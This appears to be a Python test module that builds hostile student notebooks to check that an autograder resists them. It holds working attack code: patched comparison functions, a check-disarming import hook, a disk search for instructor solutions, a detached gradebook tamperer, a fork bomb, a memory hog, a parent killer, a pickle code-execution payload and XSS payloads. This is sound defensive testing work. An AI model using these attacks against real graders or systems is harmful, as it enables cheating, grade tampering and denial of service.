"""A class of hostile and broken submissions the grader must survive, and what each may earn.

Every hostile student is a real attempt: the attack sits in an answer cell (usually at its top), followed
by a WRONG implementation whose shapes, dtypes and gradients are fine, so that only a comparison with
the reference can tell. A grader the attack fools awards points; a grader that resists it gives 0 (or
only the points of the functions the student answered correctly, see `max_points`).

Every attack is bounded, so that running this class by accident without a sandbox cannot wreck the
machine: the memory hog stops while a quarter of the RAM (at least 4 GB) is free, the fork bomb at 256
processes, the loops after 15 minutes, the output flood after 200 MB, and the gradebook tamperer writes
only to a course that graded this very student. Even so, grade the fork bomb, the memory hog, the output
flood, the disk search, the parent killer and the gradebook tamperer only under the grader's sandbox.

`RESOURCES` is a second class, of attacks on the grader's memory, time and disk (bridge replies built to
be expensive, probes called with huge shapes, a 300 MB message, a disk filler, memfd files, busy children,
symbolic links, a 300 MB notebook). It is never committed: tests/test_hostile_resources.py builds it with
`build_resources` and grades it inside a memory-bounded cgroup. Its attacks are bounded too: the disk
filler writes 2 GiB at most, the memfd hoarder stops as the memory hog does, busy children spin 2 minutes.

`python -m tests.hostile` (or `python tests/hostile.py`) rebuilds tests/files/hostile/.
"""
from __future__ import annotations

import json
import random
import shutil
import sys
import warnings
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from textwrap import indent as indent_text
from typing import Callable, Iterable

import nbformat
from nbformat import NotebookNode

if __package__ in (None, ""):      # run as a script: make the repository importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from autograder import notebooks, paths, submissions  # noqa: E402
from tests.mistakes import lesson02, lesson03  # noqa: E402

L01 = "01_seq2seq_shortcomings"  # simple_rnn_step (2 points), rnn_encode (3), seq2seq_decode (3)
L02 = "02_bahdanau_attention"   # five helpers (10 points) and attention_decode (4 points)
L03 = "03_query_key_value"      # project_qkv (2 points), qkv_attention (4 points)
L04 = "04_time_complexity"      # three counts (1 point each), CountingScore (3), loglog_slope (3)
L05 = "05_self_attention_rnn"   # self_attention_rnn_step (2 points), self_attention_rnn (5)
LESSON02_HELPERS = ("additive_scores", "dot_scores", "attention_weights", "context_vector", "attention_decoder_step")


def _test_points(lesson: str) -> dict[str, float]:
    """function -> the points of its test cell, from the course's source notebook."""
    nb = notebooks.read(paths.solution_path(lesson))
    return {notebooks.tested_function(c): float(notebooks.nbgrader_meta(c).get("points") or 0)
            for c in nb.cells if notebooks.is_autograded_test(c)}


TEST_POINTS = {lesson: _test_points(lesson) for lesson in (L01, L02, L03, L04, L05)}
POINTS = {lesson: sum(points.values()) for lesson, points in TEST_POINTS.items()}
PROJECT_POINTS = TEST_POINTS[L03]["project_qkv"]     # project_qkv's share of lesson 03

HERE = Path(__file__).resolve().parent
OUT = HERE / "files" / "hostile"

STATUSES = {"ok", "timeout", "kernel-died", "invalid-notebook", "unknown-lesson", "duplicate-lesson", "autograde-failed",
            "refused-file", "grader-died"}


@dataclass
class Hostile:
    """One student folder, holding one file.

    answers: grade id -> answer-cell source, for `submissions.answered(lesson, answers)`; cells not named
        get the reference answer, "" leaves a cell as released. Ignored when `raw` is given.
    raw: the file's bytes (or text), for files that are not notebooks at all.
    build: takes the answered notebook, returns the notebook to write (edited cells, ids, ...).
    raw_json: `build` is applied again to the JSON nbformat wrote, for breakage nbformat mends on writing.
    max_points: the most this student may earn; full_marks: it must earn POINTS[lesson] exactly.
    statuses: the grades.csv statuses that are acceptable for it.
    link: a symbolic link is written instead of a file, to link(root) (root: the class's folder).
    chunks: the file's bytes, written piece by piece (files too large to hold in memory).
    seconds: how much longer than an honest notebook of its lesson its notebook may take to grade, where
        that is part of what the attack tests.
    """
    name: str
    lesson: str
    attack: str
    max_points: float
    statuses: frozenset[str]
    answers: dict[str, str] = field(default_factory=dict)
    raw: bytes | str | None = None
    filename: str | None = None
    build: Callable[[NotebookNode], NotebookNode] | None = None
    full_marks: bool = False
    raw_json: bool = False          # apply `build` again to the written JSON (breakage nbformat would mend)
    link: Callable[[Path], Path] | None = None
    chunks: Callable[[], Iterable[bytes]] | None = None
    seconds: float | None = None

    def __post_init__(self):
        self.statuses = frozenset(self.statuses)
        assert self.statuses <= STATUSES, self.statuses - STATUSES
        assert not self.full_marks or self.max_points == POINTS[self.lesson]

    @property
    def file(self) -> str:
        return self.filename or f"{self.lesson}.ipynb"

    def content(self) -> bytes:
        if self.raw is not None:
            return self.raw.encode() if isinstance(self.raw, str) else self.raw
        nb = submissions.answered(self.lesson, self.answers)
        if self.build is not None:
            nb = self.build(nb)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")         # nbformat's word on the duplicate ids it mends
            text = nbformat.writes(nb)
        if not self.raw_json:
            return text.encode()
        # nbformat mends some breakage as it writes (duplicate cell ids): what it wrote, broken again.
        broken = self.build(nbformat.from_dict(json.loads(text)))
        return (json.dumps(broken, sort_keys=True, indent=1, ensure_ascii=False) + "\n").encode()

    def write(self, root: Path) -> Path:
        path = Path(root) / self.name / self.file
        path.parent.mkdir(parents=True, exist_ok=True)
        if self.link is not None:
            path.symlink_to(self.link(Path(root)))
        elif self.chunks is not None:
            with open(path, "wb") as f:
                for chunk in self.chunks():
                    f.write(chunk)
        else:
            path.write_bytes(self.content())
        return path


def _cell(source: str) -> str:
    return dedent(source).strip("\n") + "\n"


def _mistake(answers, function: str, name: str) -> str:
    source = next(a.source for a in answers if a.function == function and a.name == name)
    return source.strip("\n").replace("):\n\n", "):\n", 1) + "\n"


# --- the answers the attacks wrap ----------------------------------------------------------------------

# The reference answers, as a student would type them.
CORRECT_PROJECT = submissions.solution_sources("03_query_key_value")["project_qkv"]
CORRECT_ATTENTION = submissions.solution_sources("03_query_key_value")["qkv_attention"]

# Wrong, but with the right shapes, dtype, device, finite values and gradients: only comparing the values
# with the reference's can tell (the checks' other tests all pass).
WRONG_PROJECT = _cell("""
    def project_qkv(h, s, W_Q, W_K, W_V):
        # every result is zero, still attached to the inputs so that gradients flow
        return 0 * (s @ W_Q.T), 0 * (h @ W_K.T), 0 * (h @ W_V.T)
""")
WRONG_ATTENTION = _mistake(lesson03.WRONG, "qkv_attention", "softmax over the query axis t")
WRONG = {"project_qkv": WRONG_PROJECT, "qkv_attention": WRONG_ATTENTION}


def _wrong(header: str, *, where: str = "project_qkv") -> dict[str, str]:
    """Both answers wrong, with the attack at the top of the `where` cell."""
    return {**WRONG, where: _cell(header) + "\n\n" + WRONG[where]}


# --- the attacks ---------------------------------------------------------------------------------------

# A comparison that always agrees, except with the visible checks' mistake detectors (a lambda called from a
# quick_check_*, such as `close(Q, 2 * s[..., p_k])` "are W_Q and W_K swapped?"), which must hear no.
DETECTOR = """
    import sys

    def _detector_asking():
        frame = sys._getframe(2)
        for _ in range(4):
            if frame is None:
                return False
            if frame.f_code.co_name == "<lambda>" and frame.f_back is not None \\
                    and frame.f_back.f_code.co_name.startswith("quick_check_"):
                return True
            frame = frame.f_back
        return False
"""

ALLCLOSE_PATCH = DETECTOR + """

    import numpy as np
    import torch

    def _agree(*args, **kwargs):
        return not _detector_asking()

    def _all_true(a, b, *args, **kwargs):
        a, b = torch.as_tensor(a), torch.as_tensor(b)
        return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool, device=a.device)

    torch.allclose = _agree
    torch.Tensor.allclose = _agree
    torch.equal = lambda *args, **kwargs: True
    torch.Tensor.equal = lambda *args, **kwargs: True
    torch.isclose = _all_true
    torch.Tensor.isclose = _all_true
    np.allclose = lambda *args, **kwargs: True
    np.array_equal = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)
"""

ASSERT_CLOSE_PATCH = """
    import unittest

    import numpy.testing
    import torch.testing

    def _fine(*args, **kwargs):
        return None

    torch.testing.assert_close = _fine
    torch.testing.assert_allclose = _fine
    for _name in ("assert_allclose", "assert_array_almost_equal", "assert_array_equal", "assert_almost_equal",
                  "assert_equal", "assert_array_almost_equal_nulp", "assert_array_max_ulp", "assert_array_less"):
        setattr(numpy.testing, _name, _fine)
    for _name in [n for n in dir(unittest.TestCase) if n.startswith("assert")]:
        setattr(unittest.TestCase, _name, _fine)
"""

INPUT_TRANSFORMER = """
    def _everything_passes(lines):
        return ["pass\\n"]

    get_ipython().input_transformers_post.append(_everything_passes)   # every later cell becomes `pass`
"""

THREAD_PATCH = """
    import builtins
    import sys
    import threading
    import time
    import types

    _LIBRARIES = ("torch", "numpy", "IPython", "ipykernel", "jupyter", "zmq", "tornado", "traitlets", "matplotlib")

    def _no_op(*args, **kwargs):
        return None

    def _disarm(module):
        for name, value in list(vars(module).items()):
            if callable(value) and name.startswith(("check_", "quick_check_")) and value is not _no_op:
                setattr(module, name, _no_op)
            elif isinstance(value, type) and value.__module__ == module.__name__ and "fail" in vars(value):
                value.fail = _no_op                    # Student.fail: a failed expectation says nothing

    def _sweep():
        for name, module in list(sys.modules.items()):
            if ("autograder" in name or "checks" in name) and isinstance(module, types.ModuleType) \\
                    and not name.startswith(_LIBRARIES):
                try:
                    _disarm(module)
                except Exception:
                    pass

    _real_import = builtins.__import__

    def _import(name, *args, **kwargs):                # no race: disarmed the moment it is imported
        module = _real_import(name, *args, **kwargs)
        if "autograder" in name or "checks" in name:
            _sweep()
        return module

    builtins.__import__ = _import

    def _watch(seconds=1800):                          # and again and again, should anything be reloaded
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            _sweep()
            time.sleep(0.01)

    threading.Thread(target=_watch, daemon=True, name="autosave").start()
"""

DISK_SEARCH = """
    import json
    import math
    import os
    import sys
    import time
    from pathlib import Path

    import torch
    import torch.nn.functional as F
    from torch import nn

    _STOLEN = {}
    _SKIP = {"proc", "sys", "dev", "run", ".git", "__pycache__", "node_modules", ".venv", "venv", "site-packages",
             "dist-packages"}

    def _places():
        here = Path.cwd()
        yield from [here, *here.parents][:-1]
        for module in list(sys.modules.values()):         # next to the grader's own code
            where = getattr(module, "__file__", None) or ""
            if where and "-packages" not in where and not where.startswith(sys.base_prefix):
                yield from (p for p in Path(where).resolve().parents[:3] if p != Path("/"))
        yield from (Path(p) for p in sys.path if p)
        yield Path("/")

    def _files(deadline):
        walked = set()
        for place in _places():
            for root, dirs, files in os.walk(place):
                if time.monotonic() > deadline:
                    return
                if root in walked:
                    dirs[:] = []
                    continue
                walked.add(root)
                dirs[:] = [d for d in dirs if d not in _SKIP]
                for f in files:
                    if f.endswith((".ipynb", ".py")):
                        yield Path(root) / f

    def _sources(path, name):
        try:
            if path.stat().st_size > 2_000_000:
                return []
            text = path.read_text(errors="replace")
            if f"def {name}(" not in text or "_steal(" in text:
                return []
            if path.suffix == ".py":
                return [text]
            cells = json.loads(text).get("cells", [])
            code = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                    for c in cells if c.get("cell_type") == "code"]
            found = [c for c in code if f"def {name}(" in c]
            return sorted(found, key=lambda c: "BEGIN SOLUTION" not in c)  # the instructor's first
        except Exception:
            return []

    def _works(name, fn):
        g = torch.Generator().manual_seed(0)
        r = lambda *shape: torch.randn(*shape, generator=g, dtype=torch.float64)
        if name == "project_qkv":
            h, s, W_Q, W_K, W_V = r(2, 5, 4), r(2, 3, 6), r(7, 6), r(7, 4), r(8, 4)
            return all(torch.allclose(a, b) for a, b in zip(fn(h, s, W_Q, W_K, W_V),
                                                           (F.linear(s, W_Q), F.linear(h, W_K), F.linear(h, W_V))))
        Q, K, V = r(2, 3, 4), r(2, 5, 4), r(2, 5, 6)
        return torch.allclose(fn(Q, K, V)[0], F.scaled_dot_product_attention(Q, K, V, scale=1.0))

    def _steal(name, seconds=5):
        if name not in _STOLEN:
            _STOLEN[name] = None
            for path in _files(time.monotonic() + seconds):
                for source in _sources(path, name):
                    namespace = {"torch": torch, "math": math, "F": F, "nn": nn, "__name__": "stolen"}
                    try:
                        exec(compile(source, str(path), "exec"), namespace)
                        if _works(name, namespace[name]):
                            _STOLEN[name] = namespace[name]
                            return _STOLEN[name]
                    except BaseException:
                        pass
        return _STOLEN[name]

    def project_qkv(h, s, W_Q, W_K, W_V):
        found = _steal("project_qkv")
        if found is not None:
            return found(h, s, W_Q, W_K, W_V)
        B, t, m = h.shape[0], s.shape[1], h.shape[1]
        return (torch.zeros(B, t, W_Q.shape[0], dtype=h.dtype, device=h.device),
                torch.zeros(B, m, W_K.shape[0], dtype=h.dtype, device=h.device),
                torch.zeros(B, m, W_V.shape[0], dtype=h.dtype, device=h.device))
"""

DISK_SEARCH_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        found = _steal("qkv_attention")
        if found is not None:
            return found(Q, K, V, mask)
        B, t, m = Q.shape[0], Q.shape[1], K.shape[1]
        return (torch.zeros(B, t, V.shape[-1], dtype=Q.dtype, device=Q.device),
                torch.zeros(B, t, m, dtype=Q.dtype, device=Q.device))
""")

REFERENCE_IMPORT = """
    import os
    import sys

    def _reference(name):
        \"\"\"The grader's own reference, if the kernel can import the grader (or find its solutions).\"\"\"
        try:
            from autograder import reference
            return getattr(reference.load("03_query_key_value"), name)
        except Exception:
            pass
        try:
            from autograder.checks import qkv
            return getattr(qkv._ref(), name)
        except Exception:
            return None

    def project_qkv(h, s, W_Q, W_K, W_V):
        ref = _reference("project_qkv")
        if ref is not None:
            return ref(h, s, W_Q, W_K, W_V)
        return 0 * (s @ W_Q.T), 0 * (h @ W_K.T), 0 * (h @ W_V.T)
"""

REFERENCE_IMPORT_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        ref = _reference("qkv_attention")
        if ref is not None:
            return ref(Q, K, V, mask)
        weights = torch.softmax(Q @ K.transpose(-2, -1), dim=1)
        return weights @ V, weights
""")

AGREEABLE_TENSOR = DETECTOR + """

    import torch

    def _shape_of(*values):
        return torch.broadcast_shapes(*(torch.as_tensor(v).shape for v in values
                                        if isinstance(v, (torch.Tensor, int, float, bool))))

    class _Agreeable(torch.Tensor):
        \"\"\"A tensor that agrees with whatever it is compared to, and whose gradients agree too.\"\"\"

        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            kwargs = kwargs or {}
            name = getattr(func, "__name__", "")
            if name in ("allclose", "equal"):
                return not _detector_asking()
            if name in ("isclose", "eq", "__eq__", "ge", "__ge__", "le", "__le__", "isfinite"):
                return torch.ones(_shape_of(*args[:2]), dtype=torch.bool).as_subclass(cls)
            if name in ("ne", "__ne__", "lt", "__lt__", "gt", "__gt__", "isnan", "isinf"):
                return torch.zeros(_shape_of(*args[:2]), dtype=torch.bool).as_subclass(cls)
            if name in ("sub", "__sub__", "__rsub__", "subtract"):      # (a - b).abs().max() is 0
                return torch.zeros(_shape_of(*args[:2]), dtype=args[0].dtype).as_subclass(cls)
            result = super().__torch_function__(func, types, args, kwargs)
            if name == "backward":                # the gradients reaching the inputs are agreeable too
                seen, todo = set(), [args[0].grad_fn]
                while todo:
                    node = todo.pop()
                    if node is None or node in seen:
                        continue
                    seen.add(node)
                    leaf = getattr(node, "variable", None)
                    if leaf is not None and leaf.grad is not None and type(leaf.grad) is not cls:
                        leaf.grad = leaf.grad.as_subclass(cls)
                    todo.extend(n for n, _ in node.next_functions)
            return result

    def project_qkv(h, s, W_Q, W_K, W_V):
        # wrong: all zeros, wrapped in tensors that agree with anything
        return tuple((0 * x).as_subclass(_Agreeable) for x in (s @ W_Q.T, h @ W_K.T, h @ W_V.T))
"""

AGREEABLE_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        scores = Q @ K.transpose(-2, -1)
        if mask is not None:
            scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
        weights = torch.softmax(scores, dim=1)              # wrong: over the queries
        if mask is not None:
            weights = weights * mask
        return (weights @ V).as_subclass(_Agreeable), weights.as_subclass(_Agreeable)
""")

# Shared by the kernel and the detached process it leaves behind.
TAMPER = r'''
import os
import sqlite3
import time
from pathlib import Path

LESSON, POINTS = "03_query_key_value", 6
_cwd = Path.cwd()
STUDENT = _cwd.parent.name if _cwd.parent.parent.name in ("autograded", "submitted") else "h08_gradebook_edit"
NAMES = ("gradebook.db", "grades.csv")


def candidates(seconds):
    """gradebook.db and grades.csv above the working directory, named by the environment, anywhere on disk."""
    for d in [_cwd, *_cwd.parents]:
        yield from (d / n for n in NAMES)
    for value in list(os.environ.values()):
        for part in value.split(os.pathsep):
            if part.startswith("/"):
                p = Path(part)
                yield p
                yield from (q / n for q in (p, p.parent) for n in NAMES)
    deadline = time.monotonic() + seconds
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            return
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        yield from (Path(root) / n for n in NAMES if n in files)


def ours(path):
    """Only a course that graded this student (keeps an accidental run off other courses)."""
    try:
        course = path.parent
        return path.name in NAMES and path.is_file() and path.stat().st_size < 50_000_000 and (
            (course / "submitted" / STUDENT).is_dir() or (course / "autograded" / STUDENT).is_dir())
    except OSError:
        return False


def full_marks(db):
    con = sqlite3.connect(str(db), timeout=2)
    try:
        best = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
        con.execute(f"UPDATE grade SET auto_score = {best}, manual_score = {best}, needs_manual_grade = 0 "
                    "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
                    "ON n.assignment_id = a.id WHERE a.student_id = ?)", (STUDENT,))
        con.commit()
    finally:
        con.close()


def fake_rows(csv_path):
    lines = csv_path.read_text().splitlines()
    if not lines or not lines[0].startswith("student,lesson,score,max_score,status"):
        return
    row = f"{STUDENT},{LESSON},{POINTS},{POINTS},ok"
    lines = [row if line.startswith(f"{STUDENT},{LESSON},") else line for line in lines]
    csv_path.write_text("\n".join(lines + ([row] if row not in lines else [])) + "\n")


def tamper(paths):
    for path in paths:
        try:
            full_marks(path) if path.name == "gradebook.db" else fake_rows(path)
        except Exception:
            pass


def find(seconds):
    return sorted({p for p in candidates(seconds) if ours(p)})


def keep_trying(seconds=25):
    """After the kernel is gone: rewrite the grades every second, for a while."""
    found = find(5)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        found = sorted(set(found) | {p for d in [_cwd, *_cwd.parents] for p in (d / n for n in NAMES) if ours(p)})
        tamper(found)
        time.sleep(1)
'''

GRADEBOOK_EDIT = f'''
    import subprocess
    import sys

    _TAMPER = {TAMPER!r}

    exec(_TAMPER)
    tamper(find(5))                             # now, from inside the kernel
    try:                                        # and later, from a process that outlives the kernel
        subprocess.Popen([sys.executable, "-c", _TAMPER + "\\nkeep_trying(25)\\n"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         close_fds=True)
    except OSError:
        pass
'''

OS_EXIT = """
    import os

    os._exit(1)
"""

SYS_EXIT = """
    import sys

    sys.exit("that's all, folks")
"""

# `while True: pass`, but an orphaned kernel still stops after 15 minutes.
ENDLESS_CELL = """
    import time

    _end = time.monotonic() + 900
    while time.monotonic() < _end:
        pass
"""

ENDLESS_CALL = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        import signal
        import time
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP, signal.SIGQUIT,
                    signal.SIGUSR1, signal.SIGUSR2, signal.SIGXCPU):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (ValueError, OSError):        # not in the main thread
                pass
        end = time.monotonic() + 900             # deaf to everything but SIGKILL, for 15 minutes
        while time.monotonic() < end:
            pass
        return Q, Q
""")

# Without a sandbox, the memory attacks stop while a quarter of the RAM (at least 4 GB) is free.
MEMINFO = """
    def _meminfo(key):
        with open("/proc/meminfo") as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1]) * 1024
        return 0

    _reserve = max(4 * 2**30, _meminfo("MemTotal") // 4)
"""

MEMORY_HOG = MEMINFO + """
    _hog = []
    for _ in range(40):                              # 40 GB at most, 1 GB at a time, every page written
        if _meminfo("MemAvailable") < _reserve:      # without a sandbox, stop while a quarter of the RAM is free
            break
        _hog.append(bytearray(b"\\x01") * 2**30)
"""

OUTPUT_FLOOD = """
    import sys

    _line = "flood! " * 150_000 + "\\n"               # about 1 MB
    for _ in range(200):                             # about 200 MB, then stop
        sys.stdout.write(_line)
    sys.stdout.flush()
"""

FORK_BOMB = """
    import os
    import time

    _kernel = os.getpid()
    for _ in range(8):                               # doubling, 2**8 = 256 processes at most
        try:
            os.fork()
        except OSError:                              # a process limit: stop multiplying
            break
    if os.getpid() != _kernel:
        try:
            time.sleep(20)                           # hold the process slots, then go
        finally:
            os._exit(0)
"""

KILL_PARENT = """
    import os
    import signal

    _parent = os.getppid()
    if _parent > 1:
        try:
            os.kill(_parent, signal.SIGKILL)         # whoever started the kernel: the grader
        except OSError:                              # not ours to kill
            pass
"""

# A result whose unpickling runs code: a grader that brings results back with pickle patches its own torch.
PICKLE_PAYLOAD = """
    import torch

    _PATCH = ("import torch\\n"
              "torch.allclose = lambda *a, **k: True\\n"
              "torch.equal = lambda *a, **k: True\\n"
              "torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(torch.as_tensor(a).shape, "
              "torch.as_tensor(b).shape), dtype=torch.bool)\\n")

    class _Parcel(torch.Tensor):
        def __reduce_ex__(self, protocol):
            plain = self.detach().as_subclass(torch.Tensor).cpu()
            return (eval, (f"exec({_PATCH!r}) or __import__('torch').tensor({plain.tolist()!r}, "
                           f"dtype=__import__('torch').{str(plain.dtype).removeprefix('torch.')})",))

        def __reduce__(self):
            return self.__reduce_ex__(2)

    def project_qkv(h, s, W_Q, W_K, W_V):
        return tuple((0 * x).as_subclass(_Parcel) for x in (s @ W_Q.T, h @ W_K.T, h @ W_V.T))
"""

PICKLE_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        weights = torch.softmax(Q @ K.transpose(-2, -1), dim=1)      # wrong: over the queries, mask ignored
        return (weights @ V).as_subclass(_Parcel), weights.as_subclass(_Parcel)
""")

HIDDEN_TRACEBACKS = """
    import io
    import sys

    _shell = get_ipython()
    _shell._showtraceback = lambda *args, **kwargs: None      # a failing cell shows no error output ...
    _shell.showtraceback = lambda *args, **kwargs: None
    _shell.showsyntaxerror = lambda *args, **kwargs: None
    sys.stderr = io.StringIO()                                 # ... and writes nothing to stderr

    _run_cell, _run_cell_async = _shell.run_cell, _shell.run_cell_async

    def _succeeded(result):                                    # ... and its execute_reply says "ok"
        result.error_before_exec = result.error_in_exec = None
        return result

    async def _run_cell_async_ok(*args, **kwargs):
        return _succeeded(await _run_cell_async(*args, **kwargs))

    _shell.run_cell = lambda *args, **kwargs: _succeeded(_run_cell(*args, **kwargs))
    _shell.run_cell_async = _run_cell_async_ok
"""


# --- replaying the reference -------------------------------------------------------------------------------
# During a composite's check (attention_decode, say) the grader swaps the student's helpers for proxies of its
# reference helpers. This student copies the course's public checks into the notebook and, the first time its
# composite sees those proxies, runs every helper's public checks (the visible ones, and the hidden ones with the
# seed they default to) against them in the kernel, recording each output and each gradient (per cotangent).
# Its helpers are stubs that replay a recorded call, call a proxy kept from the composite's check, or return
# nothing useful. The grader resists when the helpers' tests run first whatever the student's cell order, and
# when the hidden checks draw their inputs from a seed of the grading run.

REPLAY = '''
    import hashlib
    import sys
    import types

    import torch

    _OUTPUTS, _GRADIENTS, _STOLEN = {}, {}, {}


    def _fp(value):
        """What identifies a call's arguments: each tensor's dtype, shape and bytes."""
        if isinstance(value, torch.Tensor):
            try:
                t = value.detach().to("cpu").contiguous()
                return ("tensor", str(t.dtype), tuple(t.shape), hashlib.sha1(t.view(-1).view(torch.uint8).numpy()).hexdigest())
            except Exception:
                return ("tensor", str(value.dtype), tuple(value.shape), str(value.device))
        if isinstance(value, (list, tuple)):
            return tuple(_fp(v) for v in value)
        if isinstance(value, dict):
            return tuple(sorted((k, _fp(v)) for k, v in value.items()))
        return repr(value)


    def _tensors(args, kwargs):
        return [a for a in (*args, *kwargs.values()) if isinstance(a, torch.Tensor)]


    class _Tap(torch.autograd.Function):
        """The reference's output, passed on; its backward records the gradients the reference gives."""

        @staticmethod
        def forward(ctx, key, held, *inputs):       # held: [out], out's own graph outside this one
            ctx.key, ctx.out, ctx.inputs = key, held[0], inputs
            return held[0].detach().clone()

        @staticmethod
        def backward(ctx, grad):
            wanted = [i for i, t in enumerate(ctx.inputs) if t.requires_grad]
            got = torch.autograd.grad(ctx.out, [ctx.inputs[i] for i in wanted], grad, allow_unused=True)
            grads = [None] * len(ctx.inputs)
            for i, g in zip(wanted, got):
                grads[i] = g
            _GRADIENTS[ctx.key, _fp(grad)] = [None if g is None else g.detach().clone() for g in grads]
            return (None, None, *grads)


    class _Replay(torch.autograd.Function):
        """A recorded output; its backward gives the recorded gradients for this cotangent (zeros otherwise)."""

        @staticmethod
        def forward(ctx, key, out, *inputs):
            ctx.key, ctx.like = key, [(t.shape, t.dtype, t.device) for t in inputs]
            return out.clone()

        @staticmethod
        def backward(ctx, grad):
            grads = _GRADIENTS.get((ctx.key, _fp(grad)))
            if grads is None:
                grads = [torch.zeros(s, dtype=d, device=v) if d.is_floating_point else None for s, d, v in ctx.like]
            return (None, None, *[g if need else None for g, need in zip(grads, ctx.needs_input_grad[2:])])


    def _recorder(name, proxy):
        def call(*args, **kwargs):
            out = proxy(*args, **kwargs)
            key = (name, _fp(args), _fp(kwargs))
            _OUTPUTS[key] = out.detach().clone()
            return _Tap.apply(key, [out], *_tensors(args, kwargs)) if out.requires_grad else out
        return call


    def _replay(name, args, kwargs):
        key = (name, _fp(args), _fp(kwargs))
        tensors = _tensors(args, kwargs)
        if key in _OUTPUTS:
            return _Replay.apply(key, _OUTPUTS[key], *tensors)
        if name in _STOLEN:                      # a proxy kept from the composite's check
            try:
                return _STOLEN[name](*args, **kwargs)
            except Exception:
                pass
        floats = [t for t in tensors if t.is_floating_point()]
        return sum((0 * t.sum() for t in floats), torch.zeros(()))       # nothing useful


    def _public_checks(reference):
        """The course's public checks, loaded here, with `reference` (name -> callable) as their reference."""
        package, checks, ref = (types.ModuleType(n) for n in ("autograder", "autograder.checks", "autograder.reference"))
        package.__path__, checks.__path__ = [], []
        ref.ReferenceUnavailable = type("ReferenceUnavailable", (Exception,), {})
        ref.load = lambda lesson: types.SimpleNamespace(**reference)
        package.bridge, package.reference, package.checks = __attention_bridge__, ref, checks
        sys.modules.update({"autograder": package, "autograder.bridge": __attention_bridge__,
                            "autograder.reference": ref, "autograder.checks": checks})
        for name, source in _PUBLIC_CHECKS.items():
            module = types.ModuleType(f"autograder.checks.{name}")
            module.__package__, module.__file__ = "autograder.checks", f"/course/autograder/checks/{name}.py"
            sys.modules[module.__name__] = module
            setattr(checks, name, module)
            exec(compile(source, module.__file__, "exec"), module.__dict__)
        return module


    def _harvest():
        """Once, while this composite is handed the reference helpers: record them on every public check."""
        found = {n: globals()[n] for n in _HELPERS if type(globals().get(n)).__name__ == "RemoteCallable"}
        if _STOLEN or not found:
            return
        _STOLEN.update(found)
        recorders = {n: _recorder(n, p) for n, p in found.items()}
        try:
            checks = _public_checks(recorders)
        except Exception:
            return
        for n, rec in recorders.items():
            for run in (lambda: checks.__dict__["quick_check_" + n](rec), lambda: checks.__dict__["check_" + n](rec, seed=0)):
                try:
                    run()
                except Exception:                # a refusal, a budget spent: keep what was recorded
                    pass
'''


def _replay_student(lesson: str, module: str, helpers: tuple[str, ...], composites: tuple[str, ...]) -> dict[str, str]:
    """The answers of a replay attacker: the public checks pasted in, stub helpers, composites that harvest."""
    sources = {name: (paths.REPO / "autograder" / "checks" / f"{name}.py").read_text() for name in ("core", module)}
    pasted = ("# The course's public checks, copied from its repository.\n"
              + "_PUBLIC_CHECKS = {\n" + "".join(f"    {name!r}: r'''{text}''',\n" for name, text in sources.items())
              + "}\n" + f"_HELPERS = {helpers!r}\n\n")
    answers = {}
    for name in helpers:
        answers[name] = _cell(f"""
            def {name}(*args, **kwargs):
                # whatever the reference answered to these very arguments, when the composite recorded it
                return _replay({name!r}, args, kwargs)
        """)
    answers[helpers[0]] = pasted + _cell(REPLAY) + "\n\n" + answers[helpers[0]]
    for name in composites:
        answers[name] = _in_body(submissions.solution_sources(lesson)[name],
                                 "_harvest()      # the grader's reference helpers are here now: record them")
    return answers


def _in_body(source: str, code: str) -> str:
    """`source` (one function, with a docstring) with `code` as its first statements after the docstring."""
    lines = source.splitlines(keepends=True)
    quotes = [i for i, text in enumerate(lines) if '"""' in text]
    end = quotes[0] if lines[quotes[0]].count('"""') == 2 else quotes[1]
    indent = lines[end][:len(lines[end]) - len(lines[end].lstrip())]
    return "".join(lines[:end + 1] + [indent_text(code.rstrip("\n") + "\n", indent)] + lines[end + 1:])


# --- what the student's outputs carry to the instructor's and the student's browser -----------------------

SCRIPT_IN_OUTPUT = """
    from IPython.display import HTML, SVG, Javascript, Markdown, display

    # Each payload would rewrite the feedback page (say, to show full marks) where it is opened.
    display(HTML('<script>document.body.innerHTML = "XSS-SCRIPT: 6 / 6"</script>'
                 '<img src="x" onerror="document.body.innerHTML = 1">'
                 '<a href="javascript:document.body.innerHTML = 1">XSS-LINK</a>'
                 '<iframe src="javascript:document.body.innerHTML = 1"></iframe>'
                 '<form action="javascript:document.body.innerHTML = 1"><button>XSS-FORM</button></form>'))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="document.body.innerHTML = 1">'
                '<rect width="1" height="1"/></svg>'))
    display(Javascript('document.body.innerHTML = "XSS-JAVASCRIPT"'))
    display(Markdown('[XSS-MARKDOWN](javascript:document.body.innerHTML=1)'))
"""

SCRIPT_IN_WRITTEN_ANSWER = _cell("""
    The keys decide where a query looks. <script>document.body.innerHTML = "XSS-WRITTEN"</script>
